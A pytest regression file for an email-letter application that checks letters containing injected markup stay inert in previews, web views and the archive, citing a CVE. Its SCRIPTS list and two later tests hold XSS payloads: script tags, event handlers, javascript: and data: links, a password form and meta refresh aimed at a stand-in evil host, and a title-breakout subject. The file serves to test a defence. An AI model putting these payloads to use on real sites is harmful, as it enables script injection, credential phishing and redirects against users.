"""Attack case 6: whatever stands in a letter, it is inert in previews, web views and the archive (CVE-2026-21483)."""

from __future__ import annotations

import pytest

from app.accounts import queries as found
from app.content import service
from app.content.models import LetterVersion
from app.content.service.versions import NotReady
from app.kernel import clock
from app.kernel.db import session as current
from app.kernel.db import transaction
from app.kernel.ids import uuid7
from tests.support import accounts, letters, make

SCRIPTS = [
    "<mj-raw><script>alert(1)</script></mj-raw>",
    "<mj-text><img src='https://a.test/x.png' alt='' onerror='alert(1)'></mj-text>",
    "<mj-raw><svg onload=alert(1)></svg></mj-raw>",
    "<mj-raw><iframe src='https://evil.test'></iframe></mj-raw>",
    "<mj-raw><form action='https://evil.test'><input name=password></form></mj-raw>",
    "<mj-raw><base href='https://evil.test/'></mj-raw>",
    "<mj-raw><object data='https://evil.test/x.swf'></object></mj-raw>",
    "<mj-raw><meta http-equiv='refresh' content='0; url=https://evil.test'></mj-raw>",
    "<mj-raw><meta http-equiv='&#114;efresh' content='0; url=https://evil.test'></mj-raw>",
    "<mj-text><a href='javascript:alert(1)'>x</a></mj-text>",
    "<mj-text><a href=' JavaScript:alert(1)'>x</a></mj-text>",
    "<mj-text><a href='data:text/html,<script>alert(1)</script>'>x</a></mj-text>",
    "<mj-button href='//evil.test'>x</mj-button>",
]


@pytest.fixture
def place(session):
    return make.place()


@pytest.fixture
def inside(client, place):
    account = accounts.Account(place.owner_id, place.id, place.owner_email, make.PASSWORD)
    accounts.sign_in(client, account)
    return client


def stored(place, inner: str) -> LetterVersion:
    """A version that came past every check, as if one of them were missing."""
    version = letters.version(place.id)
    values = {
        name: getattr(version, name)
        for name in ("language", "subject", "preheader", "own_text", "links", "needs")
    }
    bad = LetterVersion(
        **values, id=uuid7(), workspace_id=place.id, letter_id=version.letter_id, number=2, source="", text=version.text,
        html=version.html.replace("</body>", f"{inner}</body>"), fingerprint="none", created_at=clock.now(),
    )  # fmt: skip
    current().add(bad)
    current().flush()
    return bad


def check_inert(answer, *, links: bool) -> None:
    """No origin, no script, no form, framed by ourselves only; pictures and styles alone are loaded."""
    policy = [part.strip() for part in answer.headers["Content-Security-Policy"].split(";")]
    directives = {part.partition(" ")[0]: part.partition(" ")[2] for part in policy}
    sandbox = directives["sandbox"].split()
    assert set(sandbox) <= ({"allow-popups", "allow-popups-to-escape-sandbox"} if links else set())
    assert directives["default-src"] == "'none'"
    assert directives["base-uri"] == "'none'"
    assert directives["form-action"] == "'none'"
    assert directives["frame-ancestors"] == "'self'"
    assert set(directives) - {"sandbox"} == {
        "default-src", "img-src", "style-src", "base-uri", "form-action", "frame-ancestors",
    }  # fmt: skip
    assert "unsafe" not in directives["img-src"]
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Referrer-Policy"] == "no-referrer"
    assert "Set-Cookie" not in answer.headers


@pytest.mark.parametrize("script", SCRIPTS)
def test_a_letter_with_a_script_is_kept_shown_inert_and_never_sent(inside, place, script):
    made = letters.letter(place.id, letters.GREETING + script)
    shown = inside.get(f"/letters/{made.id}/preview")
    assert shown.status_code == 200
    check_inert(shown, links=False)
    with pytest.raises(NotReady) as refused:
        service.freeze_version(place.id, made.id)
    assert [one.line for one in refused.value.problems] == [8]


@pytest.mark.parametrize("part", ["html", "text"])
def test_every_preview_is_sandboxed(inside, place, part):
    made = letters.letter(place.id)
    service.freeze_version(place.id, made.id)
    for query in (f"part={part}", f"version=1&part={part}", f"pictures=off&part={part}"):
        check_inert(inside.get(f"/letters/{made.id}/preview?{query}"), links=False)
    check_inert(inside.get(f"/letters/designs/digest/preview?part={part}"), links=False)


def test_the_editors_own_page_keeps_its_strict_policy(inside, place):
    made = letters.letter(place.id, SCRIPTS[0])
    page = inside.get(f"/letters/{made.id}")
    policy = page.headers["Content-Security-Policy"]
    assert "unsafe" not in policy
    assert "<script>alert" not in page.text
    assert "&lt;script&gt;alert" in page.text


def test_public_copies_are_inert_even_when_a_script_got_into_a_version(client, place):
    bad = stored(place, "<script>alert(1)</script><img src=x onerror=alert(1)>")
    with transaction():
        number = service.publish(place.id, bad.id)
    public_id = found.get_workspace(place.id).public_id
    token = service.web_view_url(bad.id).rpartition("/")[2]
    for path in (f"/v/{token}/letter", f"/archive/{public_id}/{number}/letter"):
        answer = client.get(path)
        assert "alert(1)" in answer.text
        check_inert(answer, links=True)
    for path in (f"/v/{token}", f"/archive/{public_id}/{number}", f"/archive/{public_id}"):
        page = client.get(path)
        assert "alert(1)" not in page.text
        assert "unsafe-inline" not in page.headers["Content-Security-Policy"]


def test_a_subject_is_text_on_public_pages(client, place):
    version = letters.version(place.id, subject="</title><script>alert(1)</script>")
    with transaction():
        number = service.publish(place.id, version.id, topic="<b>topic</b>")
    public_id = found.get_workspace(place.id).public_id
    token = service.web_view_url(version.id).rpartition("/")[2]
    for path in (f"/v/{token}", f"/archive/{public_id}", f"/archive/{public_id}/{number}"):
        page = client.get(path).text
        assert "<script>alert" not in page
        assert "<b>topic" not in page
        assert "&lt;script&gt;" in page
